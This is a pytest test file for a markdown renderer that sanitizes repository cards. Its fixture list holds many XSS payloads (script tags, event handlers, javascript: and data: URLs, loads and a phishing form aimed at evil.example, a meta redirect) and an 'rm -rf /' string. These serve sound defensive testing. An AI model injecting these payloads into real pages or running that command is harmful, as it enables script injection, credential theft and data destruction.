"""Cards are hostile: whatever is in them, no script, no style, no address elsewhere comes out."""

import html.parser
import re
from types import SimpleNamespace

import pytest
from redis.exceptions import RedisError

from hub.web import markdown, remembered
from hub.web.markdown import Base, outline, render, statements, without_metadata

BASE = Base("model", "ada/m", "main")
HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="https://evil.example/pixel.png">',
    '<img src="//evil.example/pixel.png">',
    '<img src="/\\evil.example/pixel.png">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img srcset="https://evil.example/a.png 1x">',
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    '![x](a.png "onerror=alert(1)")',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='#' onclick=alert(1)>x</a>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<input type=password autofocus onfocus=alert(1)>",
    "<style>body{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    '<p style="position:fixed;inset:0">over everything</p>',
    '<div class="masthead secret notice" id="main">spoof</div>',
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=https://evil.example/v.mp4 onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "```python\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`</code><script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)>",
    '# "><script>alert(1)</script>',
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "- [x] <script>alert(1)</script>",
    '<copy-button data-text="rm -rf /"></copy-button><theme-toggle></theme-toggle>',
    "<xss contenteditable onfocus=alert(1) autofocus>",
]
ALLOWED_ATTRIBUTES = {
    *("href", "src", "alt", "title", "width", "height", "align", "class", "id", "name", "rel", "loading", "type"),
    *("aria-label", "tabindex", "disabled", "checked", "start", "open", "colspan", "rowspan", "scope"),
}
FORBIDDEN_TAGS = {
    *("script", "style", "iframe", "object", "embed", "form", "button", "svg", "math", "link", "meta", "base"),
    *("video", "noscript", "template"),
}


class _Look(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def _tags(text: str) -> list[tuple[str, dict[str, str | None]]]:
    look = _Look()
    look.feed(render(text, BASE))
    return look.tags


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_harmless(text: str) -> None:
    for tag, attributes in _tags(text):
        assert tag not in FORBIDDEN_TAGS
        assert "-" not in tag
        assert set(attributes) <= ALLOWED_ATTRIBUTES
        assert not re.match(r"\s*(javascript|vbscript|data):", attributes.get("href") or "", re.I)
        assert (attributes.get("src") or "/ada/m/resolve/main/").startswith("/ada/m/resolve/main/")
        assert attributes.get("aria-label") in {None, "Link to this section", "Done"}
        assert (attributes.get("id") or "card-").startswith("card-")
        assert "masthead" not in (attributes.get("class") or "")
        assert tag != "input" or (attributes["type"] == "checkbox" and "disabled" in attributes)


def test_images_come_from_the_repository() -> None:
    assert 'src="/ada/m/resolve/main/assets/a%20b.png"' in render("![x](assets/a%20b.png)", BASE)
    assert "src=" not in render("![x](../../../../admin/logo.png)", BASE)
    assert 'src="/ada/m/resolve/main/docs/a.png"' in render("![x](a.png)", Base("model", "ada/m", "main", "docs"))


def test_links_lead_to_files_or_out_without_trust() -> None:
    html_ = render("[a](LICENSE) [b](https://example.org) [c](#usage) [d](docs/x.md#part)", BASE)
    assert 'href="/ada/m/blob/main/LICENSE"' in html_
    assert 'href="https://example.org" rel="nofollow noopener"' in html_
    assert 'href="#card-usage"' in html_
    assert 'href="/ada/m/blob/main/docs/x.md#card-part"' in html_


def test_data_sets_and_odd_revisions_keep_their_prefix() -> None:
    base = Base("dataset", "ada/d", "refs/pr/1")
    assert 'href="/datasets/ada/d/blob/refs%2Fpr%2F1/a.csv"' in render("[a](a.csv)", base)


def test_what_cards_are_made_of_is_rendered() -> None:
    html_ = render("## Use\n\n| a | b |\n|--:|---|\n| 1 | 2 |\n\n```python\nx = 1\n```\n\n- [x] done\n\n~~no~~", BASE)
    for part in (
        '<h2 id="card-use">',
        '<th align="right">',
        '<span class="n">x</span>',
        'type="checkbox"',
        "<s>no</s>",
    ):
        assert part in html_


def test_equal_headings_get_different_ids() -> None:
    assert 'id="card-use-1"' in render("# Use\n\n# Use\n", BASE)


def test_huge_text_is_shown_as_it_is() -> None:
    assert render("<b>" * 200_000, BASE).startswith("<pre>&lt;b&gt;")


def test_sections_and_their_sentences() -> None:
    text = "# A\n\nx\n\n## Training data\n\n- **One** `two`\n- three\n\n### More\n\ny\n\n## B\n\nz"
    sections = {heading: body for _, heading, body in outline(text)}
    assert statements(sections["Training data"]) == ["One two", "three"]
    assert statements(sections["B"]) == ["z"]
    assert "More" in sections["Training data"] and "z" not in sections["Training data"]


def test_metadata_is_not_part_of_the_text() -> None:
    assert without_metadata("---\na: 1\n---\n# T\n") == "# T\n"
    assert without_metadata("# T\n---\n") == "# T\n---\n"


def test_headings_leave_no_level_out() -> None:
    html = render("### First\n\n##### Deep\n\n# Top\n\n## Next", BASE)
    assert re.findall(r"<h(\d)", html) == ["2", "3", "1", "2"] == re.findall(r"</h(\d)", html)


def test_a_long_card_is_rendered_once_and_as_it_would_be_anew(monkeypatch) -> None:
    text = "# Title\n\n" + "## Part\n\nSome *words* and `code`.\n\n" * 200
    first, heads = render(text, BASE), markdown.contents(text)
    for function in (markdown._kept, markdown._heads, markdown._parsed):
        function.cache_clear()
    monkeypatch.setattr(markdown, "_parsed", None)
    assert "<em>words</em>" in first and len(heads) == 201
    assert render(text, BASE) == first and markdown.contents(text) == heads


def test_without_a_cache_long_cards_are_rendered_anew(monkeypatch) -> None:
    def down(*_args, **_kwargs) -> None:
        raise RedisError("gone")

    monkeypatch.setattr(remembered, "cache", SimpleNamespace(get=down, set=down))
    assert "<em>words</em>" in render("*words* " * 1000, BASE)


@pytest.mark.parametrize("piece", ["<div>", "[", "# a\n", "*a_", "`a`", "|a"])
def test_a_text_that_is_little_but_markup_is_shown_as_it_is(piece: str) -> None:
    text = piece * (markdown.MAX_MARKUP + 1)
    assert render(text[: markdown.MAX_TEXT], BASE).startswith("<pre>") and outline(text) == []


def test_formulas_beyond_a_budget_stay_tex() -> None:
    text = "\n\n".join(f"$$\\begin{{matrix}}{'a&' * 900}\\end{{matrix}}{number}$$" for number in range(80))
    html = render(text, BASE)
    assert 40 < html.count("<math") < 60 < html.count("<math") + html.count("<code>") == 80
